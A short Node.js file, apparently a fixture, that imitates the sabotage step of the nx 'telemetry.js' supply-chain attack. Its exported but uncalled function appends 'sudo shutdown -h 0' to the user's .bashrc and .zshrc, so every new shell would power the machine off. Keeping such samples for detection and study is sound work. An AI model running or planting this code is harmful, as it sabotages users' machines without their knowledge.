// Inert imitation of the last step of nx's telemetry.js (s1ngularity, August 2025): append a
// shutdown to the shell startup files. The function is exported, never called.
const fs = require('fs');
const os = require('os');
const path = require('path');

function sabotage() {
  for (const rc of ['.bashrc', '.zshrc']) {
    try {
      fs.appendFileSync(path.join(os.homedir(), rc), '\nsudo shutdown -h 0\n');
    } catch {}
  }
}

module.exports = { sabotage };
